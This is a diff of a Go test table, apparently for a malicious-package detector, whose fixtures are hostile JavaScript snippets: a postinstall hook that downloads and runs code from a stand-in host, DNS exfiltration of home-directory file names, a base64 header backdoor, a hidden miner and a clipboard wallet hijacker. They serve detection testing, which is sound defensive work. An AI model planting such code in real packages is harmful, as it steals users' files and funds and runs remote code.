@@ -64,7 +64,7 @@ func TestChains(t *testing.T) {
 		{"async function made", "postinstall", `const A=Object.getPrototypeOf(async function(){}).constructor;fetch('https://a.example').then(r=>r.text()).then(t=>new A('require',t)(require))`, "!download-run"},
 		{"code in a picture", "main", `const fs=require('fs');const b=fs.readFileSync(require('path').join(__dirname,'logo.png'));eval(b.slice(90).toString())`, "!decode-run"},
 		{"files in names", "main", `const dns=require('dns'),fs=require('fs'),os=require('os');for(const f of fs.readdirSync(os.homedir()))dns.lookup(f+'.a.example',()=>{})`, "!exfiltration"},
-		{"request runs", "main", `module.exports=(req,res,next)=>{const c=req.headers['x-a'];if(c)require('vm').runInThisContext(Buffer.from(c,'base64').toString());next()}`, "download-run"},
+		{"request runs", "main", `module.exports=(req,res,next)=>{const c=req.headers['x-a'];if(c)require('vm').runInThisContext(Buffer.from(c,'base64').toString());next()}`, "!download-run"},
 		{"miner", "postinstall", `require('child_process').spawn('./worker',['-o','stratum+tcp://pool.example:3333'],{detached:true}).unref()`, "!unusual-host"},
 		{"clipboard", "main", `const c=require('clipboardy');setInterval(()=>{const t=c.readSync();if(/^0x[a-f0-9]{40}$/.test(t))c.writeSync(mine)},500)`, "!wallet-hook"},
 		{"characters shifted", "main", `const s=[102,103,104,105,106].map(c=>String.fromCharCode(c-1)).join('');eval(s)`, "decode-run"},
